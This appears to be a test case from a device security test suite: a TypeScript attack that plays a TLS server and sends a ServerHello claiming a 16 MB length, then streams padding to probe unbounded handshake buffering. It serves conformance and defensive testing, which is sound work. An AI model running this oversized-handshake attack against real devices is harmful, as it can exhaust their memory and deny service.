import { deviceAttack } from "../../attack.ts";
import { TlsContentType, tlsRecord } from "../../path/tls-record.ts";
import { HandshakeType } from "../../tls/numbers.ts";
import { deviceHello, judgeReaction } from "./device-hello.ts";

export default deviceAttack({
  id: "P-20f",
  title: "a ServerHello that says it has 16 MB",
  transports: ["tls"],
  defeats: "handshake-size-unbounded",
  severity: "medium",
  reference: {
    rfc: ["RFC 8446 §4"],
    cwe: [400, 770],
    en303645: ["5.5-1"],
    cra: ["I(2)(h)"],
  },
  async run(lab) {
    const { raw } = await deviceHello(lab);
    const begin = Buffer.concat([
      Uint8Array.of(HandshakeType.server_hello, 0xff, 0xff, 0xff),
      new Uint8Array(8_188),
    ]);
    raw.write(tlsRecord(TlsContentType.handshake, begin), { attack: true, note: "the beginning of 16 MB" });
    for (let sent = begin.length; sent < 2 ** 18 && raw.ended === undefined; sent += 2 ** 14) {
      raw.write(tlsRecord(TlsContentType.handshake, new Uint8Array(2 ** 14)), { what: "more of it" });
    }
    return judgeReaction(lab, raw, "the beginning of a message of 16 MB");
  },
});
